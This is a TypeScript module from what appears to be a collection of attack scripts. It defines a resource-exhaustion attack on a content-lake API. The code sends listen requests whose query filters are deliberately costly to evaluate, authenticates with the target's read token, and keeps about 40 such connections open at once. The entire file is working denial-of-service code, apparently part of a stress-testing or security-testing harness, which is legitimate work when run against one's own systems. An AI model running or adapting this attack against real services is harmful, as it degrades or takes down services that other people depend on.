import type { Attack } from "./attack.ts";
import { endless, params } from "./costly-groq.ts";
import { holdConnection, rawRequest } from "./hold-connection.ts";
import { repeat } from "./repeat.ts";

/** Listeners whose filters take long to evaluate, which the lake must do at every save of the editor. */
export const costlyListeners: Attack = {
  name: "listeners with costly filters",
  addresses: 1,
  run: (attacker) => {
    const { lake, readToken } = attacker.target;
    const search = new URLSearchParams({ query: `*[${endless}]`, $n: JSON.stringify(params.n) });
    const start = rawRequest(lake, `GET /v2025-02-19/data/listen/production?${search.toString()}`, {
      authorization: `Bearer ${readToken}`,
    });
    return repeat(attacker, { atOnce: 40, pauseMs: 1000 }, () =>
      holdConnection(attacker, lake, { start, everyMs: 5000 }),
    );
  },
};
